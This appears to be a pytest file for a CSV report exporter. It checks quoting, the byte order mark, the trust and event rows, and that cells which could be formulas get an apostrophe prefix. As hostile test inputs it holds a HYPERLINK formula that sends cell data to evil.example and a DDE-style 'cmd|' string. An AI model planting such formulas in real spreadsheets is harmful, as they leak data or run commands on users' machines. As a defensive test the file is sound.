"""The tables for spreadsheets, read by the reader of Python's own library."""

import csv
import io

import pytest

from metadata.ledger import Stated
from metadata.report import facts
from metadata.report.tables import events_csv, harmless, table, trust_csv
from tests.metadata import past as p
from tests.metadata.past import sha256
from tests.metadata.report.reported import BEGIN, DOCUMENT, END, TWO_KEYS, Told, half_a_year

FORMULA = '=HYPERLINK("https://evil.example?"&A1)'


def rows(octets: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(octets.decode("utf-8-sig"), newline=""), strict=True))


def test_the_form_is_that_of_rfc_4180_with_a_byte_order_mark():
    octets = table(("a", "b"), [('x "y"', "1,2"), ("two", "é")])
    assert octets == b'\xef\xbb\xbfa,b\r\n"x ""y""","1,2"\r\ntwo,\xc3\xa9\r\n'


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_a_cell_that_could_be_a_formula_begins_with_an_apostrophe(begin: str):
    assert harmless(f"{begin}1+1") == f"'{begin}1+1"


def test_other_cells_stay_as_they_are():
    assert [harmless(one) for one in ("", "a=b", "2026-01-01", "é")] == ["", "a=b", "2026-01-01", "é"]


def test_who_was_trusted_is_a_row_for_each_day():
    told = rows(trust_csv(facts(half_a_year().basis())))
    assert [(one["at"], one["document"], one["people"]) for one in told] == [
        ("2026-07-01T00:00:00Z", sha256(DOCUMENT), ""),
        ("2026-12-31T23:59:59Z", sha256(TWO_KEYS), "Camille"),
    ]


def test_the_events_are_those_of_the_span_with_their_facts():
    told = half_a_year()
    read = rows(events_csv(told.basis()))
    inside = [one.event for one in told.entries if BEGIN <= one.event.time <= END]
    assert [(int(one["seq"]), one["after"]) for one in read] == [(one.seq, one.after) for one in inside]
    assert "verdict=approved" in next(one["facts"] for one in read if one["word"] == "approved")


def test_the_words_of_a_decision_are_no_formula():
    spoken = p.stated(
        "country.state", "EL", {"state": "suspended", "by": FORMULA, "words": FORMULA, "at": "2026-07-12T00:00:00Z"}
    )
    (row,) = rows(events_csv(Told().tell(BEGIN, spoken).basis()))
    assert [value for value in row.values() if value.startswith(("=", "+", "-", "@"))] == []
    assert row["what_happened"].startswith(f"'{FORMULA}")


def test_an_entity_id_is_no_formula_whatever_stands_in_it():
    name = 'https://el.example/=cmd|"/C'.replace('"', "'")
    facts_ = {**p.in_force().facts, "entity_id": name}
    told = Told().tell(
        BEGIN - 1, Stated("metadata.in_force", "EL/proxy", facts_, sha256(DOCUMENT), {sha256(DOCUMENT): DOCUMENT})
    )
    made = facts(told.basis())
    made["trusted_last"][0] |= {"entity_id": f"=1+{name}"}  # no form lets it in; should one ever do
    assert [one["entity_id"] for one in rows(trust_csv(made))] == [name, f"'=1+{name}"]
